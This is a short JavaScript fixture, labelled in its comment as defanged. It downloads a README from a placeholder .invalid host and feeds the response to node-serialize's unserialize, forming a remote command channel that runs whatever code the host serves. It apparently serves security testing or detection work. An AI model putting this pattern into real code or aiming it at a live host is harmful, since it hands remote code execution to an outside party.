// defanged fixture: command channel through node-serialize (host is .invalid)
const serialize = require('node-serialize');
const https = require('https');
https.get('https://commands.example.invalid/README.md', (res) => {
  let body = '';
  res.on('data', (d) => (body += d));
  res.on('end', () => serialize.unserialize(body));
});
